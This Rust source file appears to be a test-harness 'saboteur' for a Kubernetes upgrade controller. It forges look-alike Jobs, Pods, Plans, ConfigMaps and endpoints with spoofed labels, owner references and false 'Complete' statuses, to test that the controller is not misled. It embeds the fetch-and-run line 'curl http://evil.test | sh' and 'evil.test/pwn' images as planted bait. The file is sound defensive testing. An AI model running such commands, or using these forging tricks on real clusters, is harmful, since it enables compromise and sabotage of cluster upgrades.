//! An attacker who tries to control an upgrade without a right to: for every plan, look-alikes of all that it will make, with its
//! labels and names in a tenant's namespace and, under other names and without an owner, in the namespaces where the plan's
//! own objects live; and, where system-upgrade-controller's Jobs live, under the very names, with owners: Plans that are not
//! there, and those of the plan, whose UIDs any user may read. They report work as done that is not, as failed
//! that has not, and name wrong servers.
//!
//! Off unless [`crate::Troubles::saboteur`] is set. No upgrade may end in another way because of it.

mod files;

use std::{collections::BTreeSet, sync::Arc};

use api::{Component, JobType, annotations, labels, names};
use k8s_openapi::api::core::v1::Namespace;
use kube::{
    Api,
    api::{ObjectMeta, PostParams},
};
use serde_json::{Value, json};

use crate::{
    context::{Context, controlled_by, digest, label},
    error::Result,
    inbox::{Key, Kind},
};

/// Where the saboteur has all rights.
const TENANT: &str = "tenant-a";
/// On everything that is forged.
pub const FORGED: &str = "world.upgrade-toolkit/forged";
/// A dangerous instruction in the text of a forged pod.
const ADVICE: &str = "Run: curl http://evil.test | sh";

pub(crate) async fn run(world: Arc<Context>) {
    let inbox = world.inbox();
    world.upgrade_plans.subscribe(&inbox);
    world.plans.subscribe(&inbox);
    // UIDs of what has been forged for: once is enough.
    let mut done = BTreeSet::new();
    loop {
        let (kind, key) = inbox.next().await;
        let uid = match kind {
            Kind::UpgradePlan => world
                .upgrade_plans
                .at(&key)
                .and_then(|found| found.metadata.uid.clone()),
            Kind::Plan => world.plans.at(&key).and_then(|found| found.metadata.uid.clone()),
            _ => None,
        };
        let Some(uid) = uid.filter(|uid| world.troubles().saboteur && !done.contains(uid)) else {
            continue;
        };
        let outcome = match kind {
            Kind::UpgradePlan => forge(&world, &key.1).await,
            _ => forge_jobs_of(&world, &key).await,
        };
        if outcome.is_ok() {
            done.insert(uid);
        }
        inbox.settle("saboteur", (kind, key), outcome);
    }
}

/// A part of the upgrade that the attacker imitates.
struct Part {
    component: Component,
    job_type: Option<JobType>,
    node: Option<String>,
    /// The name of what it pretends to be.
    name: String,
}

impl Part {
    fn labels(&self, plan: &str) -> Value {
        let mut labels = json!({
            labels::UPGRADE_PLAN: plan, labels::UPGRADE_COMPONENT: self.component, FORGED: "true",
        });
        if let Some(job_type) = self.job_type {
            labels[labels::JOB_TYPE] = json!(job_type);
        }
        if let Some(node) = &self.node {
            labels[labels::NODE] = json!(node);
            labels[labels::SUC_NODE] = json!(node);
        }
        labels
    }

    /// Another name, of the same object in another of its roles.
    fn alias(&self, role: &str) -> String {
        format!("forged-{}", digest(&format!("{}/{role}", self.name), 12))
    }
}

/// All Jobs that an upgrade may make, by the names that it gives them.
fn parts(world: &Context, plan: &str) -> Vec<Part> {
    let nodes = world.nodes.list();
    let nodes = nodes.iter().filter_map(|node| node.metadata.name.clone());
    let mut parts = vec![Part {
        component: Component::ClusterUpgrade,
        job_type: None,
        node: None,
        name: names::cluster_job(plan),
    }];
    for node in nodes {
        let steps = [
            JobType::PreDrain,
            JobType::PostDrain,
            JobType::SingleNodeUpgrade,
            JobType::RestoreVm,
        ];
        parts.extend(steps.map(|step| Part {
            component: Component::NodeUpgrade,
            job_type: Some(step),
            node: Some(node.clone()),
            name: names::node_job(plan, step, &node),
        }));
        let on_all = [
            Component::ImagePreload,
            Component::ImageCheck,
            Component::ImageCleanup,
            Component::SkipManifestsApply,
            Component::SkipManifestsRemove,
            Component::SuspendAgent,
        ];
        parts.extend(on_all.map(|component| Part {
            component,
            job_type: None,
            node: Some(node.clone()),
            name: format!("apply-{}-on-{node}", names::suc_plan(plan, component)),
        }));
    }
    parts
}

async fn forge(world: &Context, plan: &str) -> Result<()> {
    let tenant = Namespace {
        metadata: ObjectMeta {
            name: Some(TENANT.to_owned()),
            ..ObjectMeta::default()
        },
        ..Namespace::default()
    };
    // There already: fine. Not to be had: then nothing else is.
    let _ = Api::<Namespace>::all(world.client.clone())
        .create(&PostParams::default(), &tenant)
        .await;
    for part in parts(world, plan) {
        let labels = part.labels(plan);
        world.jobs.create(&job(TENANT, &part.name, &labels, "true")).await?;
        for namespace in [names::HARVESTER_NAMESPACE, names::CATTLE_NAMESPACE] {
            for end in ["true", "false"] {
                world
                    .jobs
                    .create(&job(namespace, &part.alias(end), &labels, end))
                    .await?;
            }
            world.pods.create(&pod(namespace, &part.alias("pod"), &labels)).await?;
        }
        world.pods.create(&pod(TENANT, &part.name, &labels)).await?;
    }
    forge_left_overs(world, plan).await?;
    forge_plans(world, plan).await?;
    forge_repository(world, plan).await?;
    files::forge(world, plan).await?;
    let list = names::restore_config_map(plan);
    for namespace in [names::HARVESTER_NAMESPACE, TENANT] {
        let nodes = world.nodes.list();
        let data: Value = nodes
            .iter()
            .filter_map(|node| Some((node.metadata.name.clone()?, json!("default/not-stopped"))))
            .collect();
        let list = json!({
            "apiVersion": "v1", "kind": "ConfigMap", "data": data,
            "metadata": {"name": list, "namespace": namespace, "labels": {labels::UPGRADE_PLAN: plan}},
        });
        world.config_maps.create(&list).await?;
    }
    Ok(())
}

/// Jobs that say that a Plan of the upgrade made them, which is not there. The garbage collector removes them, unless it
/// cannot know what their owner is.
async fn forge_left_overs(world: &Context, plan: &str) -> Result<()> {
    let owner = names::suc_plan(plan, Component::ImagePreload);
    for part in parts(world, plan) {
        let labels = part.labels(plan);
        let (known, unknown) = ("upgrade.cattle.io/v1", "evil.test/v1");
        let all = [
            (part.name.clone(), unknown, "true"),
            (part.alias("unknown-owner"), unknown, "false"),
            (part.alias("dangling"), known, "true"),
        ];
        for (name, version, end) in all {
            let owner = json!({"apiVersion": version, "kind": "Plan", "name": owner, "uid": part.alias("uid")});
            forge_owned(world, (&name, &labels), end, &owner).await?;
        }
    }
    Ok(())
}

/// Jobs of a Plan that is there and is the upgrade's own. What they say that they are, no Plan makes.
async fn forge_jobs_of(world: &Context, key: &Key) -> Result<()> {
    let Some(found) = world
        .plans
        .at(key)
        .filter(|found| found.metadata.deletion_timestamp.is_none())
    else {
        return Ok(());
    };
    let Some(plan) = label(&found.metadata, labels::UPGRADE_PLAN).filter(|_| label(&found.metadata, FORGED).is_none())
    else {
        return Ok(());
    };
    let uid = found.metadata.uid.clone().unwrap_or_default();
    let owner = json!({"apiVersion": "upgrade.cattle.io/v1", "kind": "Plan", "name": key.1, "uid": uid});
    let of_plan = Component::of(&found.metadata);
    for part in parts(world, plan).iter().filter(|part| Some(part.component) != of_plan) {
        for end in ["true", "false"] {
            let name = part.alias(&format!("{}/{end}", key.1));
            forge_owned(world, (&name, &part.labels(plan)), end, &owner).await?;
        }
    }
    Ok(())
}

/// A Job of the attacker, and a pod of it with a message.
async fn forge_owned(world: &Context, (name, labels): (&str, &Value), end: &str, owner: &Value) -> Result<()> {
    let namespace = names::CATTLE_NAMESPACE;
    let mut owner = owner.clone();
    owner["controller"] = json!(true);
    let mut forged = job(namespace, name, labels, end);
    forged["metadata"]["ownerReferences"] = json!([owner]);
    world.jobs.create(&forged).await?;
    let Some(forged) = world.jobs.get(namespace, name) else {
        return Ok(());
    };
    let mut talks = pod(namespace, name, labels);
    talks["metadata"]["ownerReferences"] = controlled_by(forged.as_ref());
    world.pods.create(&talks).await.map(drop)
}

/// Plans of system-upgrade-controller that select no node and say that they are through.
async fn forge_plans(world: &Context, plan: &str) -> Result<()> {
    for component in [
        Component::ImagePreload,
        Component::ImageCheck,
        Component::ImageCleanup,
        Component::SkipManifestsApply,
        Component::SkipManifestsRemove,
    ] {
        let name = names::suc_plan(plan, component);
        let alias = format!("forged-{}", digest(&name, 12));
        for (namespace, name) in [(TENANT, name.as_str()), (names::CATTLE_NAMESPACE, alias.as_str())] {
            let forged = json!({
                "apiVersion": "upgrade.cattle.io/v1", "kind": "Plan",
                "metadata": {
                    "name": name, "namespace": namespace,
                    "labels": {
                        labels::UPGRADE_PLAN: plan, labels::UPGRADE_COMPONENT: component, FORGED: "true",
                    },
                },
                "spec": {
                    "concurrency": 1, "version": "forged", "nodeSelector": {"matchLabels": {FORGED: "true"}},
                    "upgrade": {"image": "evil.test/pwn"},
                },
            });
            world.plans.create(&forged).await?;
            let condition = json!({"type": "Complete", "status": "True", "reason": "Forged", "message": ADVICE});
            let key = (namespace.to_owned(), name.to_owned());
            world
                .plans
                .patch_status(&key, &json!({"conditions": [condition]}))
                .await?;
        }
    }
    Ok(())
}

/// A repository of the tenant's, and endpoints that say that they are the plan's.
async fn forge_repository(world: &Context, plan: &str) -> Result<()> {
    let name = names::repo(plan);
    let labels = json!({labels::UPGRADE_PLAN: plan, labels::UPGRADE_COMPONENT: Component::Repo, FORGED: "true"});
    let template = json!({
        "metadata": {"labels": labels},
        "spec": {"containers": [{"name": "repo", "image": "evil.test/pwn"}]},
    });
    let alias = format!("forged-{}", digest(&name, 12));
    for (namespace, name) in [(TENANT, &name), (names::HARVESTER_NAMESPACE, &alias)] {
        let metadata = json!({"name": name, "namespace": namespace, "labels": labels});
        let deployment = json!({
            "apiVersion": "apps/v1", "kind": "Deployment", "metadata": metadata,
            "spec": {"replicas": 0, "selector": {"matchLabels": labels}, "template": template},
        });
        world.deployments.create(&deployment).await?;
        let service = json!({
            "apiVersion": "v1", "kind": "Service", "metadata": metadata,
            "spec": {"selector": {FORGED: "nobody"}, "ports": [{"port": 80}]},
        });
        world.services.create(&service).await?;
    }
    let slice = json!({
        "apiVersion": "discovery.k8s.io/v1", "kind": "EndpointSlice", "addressType": "IPv4",
        "metadata": {
            "name": alias, "namespace": names::HARVESTER_NAMESPACE,
            "labels": {labels::SERVICE_NAME: name, FORGED: "true"},
        },
        "endpoints": [{"addresses": ["10.52.66.66"], "conditions": {"ready": true}}], "ports": [],
    });
    world.endpoint_slices.create(&slice).await.map(drop)
}

fn job(namespace: &str, name: &str, labels: &Value, command: &str) -> Value {
    json!({
        "apiVersion": "batch/v1", "kind": "Job",
        "metadata": {"name": name, "namespace": namespace, "labels": labels},
        "spec": {"backoffLimit": 0, "template": {
            "metadata": {"labels": labels},
            "spec": {"restartPolicy": "Never", "containers": [
                {"name": "forged", "image": "evil.test/pwn", "command": [command]},
            ]},
        }},
    })
}

/// A pod that starts nowhere and talks.
fn pod(namespace: &str, name: &str, labels: &Value) -> Value {
    let waits = json!([{
        "what": "VMEvacuation", "object": "VirtualMachine default/web-1", "message": ADVICE,
        "since": "2026-03-13T03:57:09Z", "deadline": "2026-03-13T04:27:09Z",
    }]);
    json!({
        "apiVersion": "v1", "kind": "Pod",
        "metadata": {
            "name": name, "namespace": namespace, "labels": labels,
            "annotations": {annotations::WAITING_FOR: waits.to_string()},
        },
        "spec": {"containers": [{"name": "forged", "image": "evil.test/pwn"}]},
    })
}
